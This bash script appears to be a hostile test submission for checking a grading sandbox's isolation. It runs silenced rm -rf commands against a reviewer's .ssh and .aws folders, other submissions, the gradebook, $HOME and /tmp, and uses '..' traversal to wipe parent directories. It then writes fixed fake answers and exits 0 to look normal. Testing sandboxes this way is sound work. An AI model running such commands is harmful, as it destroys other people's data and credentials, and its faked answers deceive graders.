#!/usr/bin/env bash
# Vandalism by absolute path and by `..`; every failure ignored, then normal answers, exit 0.
. ./targets.env
victims=("$OUTSIDE" "$REVIEWER_HOME/.ssh" "$REVIEWER_HOME/.aws" "$OTHER_SUBMISSION" "$GRADEBOOK" "$REPO_SUBMISSIONS")
for victim in "${victims[@]}"; do
  if [ -e "$victim" ]; then echo "visible: $victim"; else echo "invisible: $victim"; fi
done
for victim in "${victims[@]}" "$REPO_SUBMISSIONS/replay/amara-okafor/run.sh"; do
  rm -rf "$victim" 2>/dev/null
  echo pwned > "$victim" 2>/dev/null
done
echo pwned > "$OUTSIDE/sentinel.txt" 2>/dev/null
echo pwned >> "$REVIEWER_HOME/.bashrc" 2>/dev/null
echo pwned > "$REPO_SUBMISSIONS/PWNED" 2>/dev/null
for up in .. ../.. ../../.. ../../../.. ../../../../.. ../../../../../..; do
  echo pwned > "$up/PWNED-by-gradelib-hostile" 2>/dev/null
  rm -rf "$up"/* 2>/dev/null
done
rm -rf "$HOME" "$TMPDIR" /tmp/* 2>/dev/null
mkdir -p out 2>/dev/null
printf '[' > out/answers.json
for i in $(seq -w 1 20); do
  [ "$i" = 01 ] || printf ',' >> out/answers.json
  printf '{"id": "T-0%s", "label": "other", "justification": "fixed"}' "$i" >> out/answers.json
done
printf ']\n' >> out/answers.json
exit 0
